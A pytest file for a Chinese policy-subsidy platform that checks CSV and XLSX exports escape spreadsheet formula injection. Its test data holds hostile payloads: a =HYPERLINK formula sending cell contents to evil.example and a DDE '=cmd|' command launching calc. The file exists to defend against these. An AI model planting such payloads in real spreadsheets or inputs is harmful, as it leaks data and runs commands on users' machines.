"""Issue 16, M4: no cell of any CSV or XLSX export is a live formula — a policy titled
`=HYPERLINK(…)`, an enterprise named `=cmd|…`, a rejected row of an upload."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from mianshen.audit.log import Actor
from mianshen.cases import payments
from mianshen.matching.publish import publish_policy
from mianshen.rules.loader import SHIPPED
from mianshen.sheets import safe_cell

from .test_web_console_fixtures import add_staff, login, make_client

ROOT = Path(__file__).resolve().parent.parent
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (EVIL, "'" + EVIL),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("-12.50", "-12.50"),  # a plain number stays a number
        ("甲公司", "甲公司"),
        (None, ""),
    ],
)
def test_safe_cell(raw: Any, shown: str) -> None:
    assert safe_cell(raw) == shown


def xlsx_cells(body: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(body: bytes) -> None:
    cells = xlsx_cells(body)
    assert not [c.value for c in cells if c.data_type == "f"]
    assert "'" + EVIL in [c.value for c in cells]


@pytest.fixture
def evil_site(store: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
    monkeypatch.setenv("MIANSHEN_FAST_HASH", "1")
    source = (SHIPPED / "kuogang-buzhu.yaml").read_text(encoding="utf-8")
    target = tmp_path / "kuogang-buzhu.yaml"
    lines = [
        f"title: '{EVIL.replace(chr(39), chr(39) * 2)}'" if x.startswith("title:") else x for x in source.splitlines()
    ]
    target.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with store.begin() as conn:
        publish_policy(conn, target, Actor("管理员", "platform_admin"))
    add_staff(store)
    yield store


@pytest.mark.parametrize("path", ["/export/policies.xlsx", "/export/guides.xlsx"])
def test_public_exports_hold_no_formula(evil_site: Engine, path: str) -> None:
    r = make_client(evil_site).get(path)
    assert r.status_code == 200
    assert_no_formula(r.content)


def test_dashboard_export_holds_no_formula(evil_site: Engine) -> None:
    r = login(evil_site, "admin").get("/dashboard/export.xlsx")
    assert r.status_code == 200
    assert_no_formula(r.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_finance_batch_file_holds_no_formula(
    store: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    row = ("1", EVIL, "6222****1234", "@银行", "-102100099996", "1500.00", "+用途", "案件1 91110108551385082Q")
    monkeypatch.setattr(payments, "batch_rows", lambda *a, **k: [row])
    target = tmp_path / f"batch.{fmt}"
    with store.begin() as conn:
        payments.export_batch(conn, 1, fmt, target, Actor("财政", "finance"))
    if fmt == "xlsx":
        assert_no_formula(target.read_bytes())
        return
    cells = next(iter(list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))[1:]))
    assert cells[1] == "'" + EVIL and cells[3] == "'@银行" and cells[6] == "'+用途"
    assert cells[5] == "1500.00"


def test_reject_report_holds_no_formula(tmp_path: Path) -> None:
    from mianshen.cli.data import write_reject_report

    class Report:
        rejects = [{"row_number": 2, "severity": "error", "uscc": "=1+1", "reason": "坏行", "raw": EVIL}]

    target = tmp_path / "rejects.csv"
    write_reject_report(Report(), target)  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert rows[1][2] == "'=1+1" and rows[1][4] == "'" + EVIL
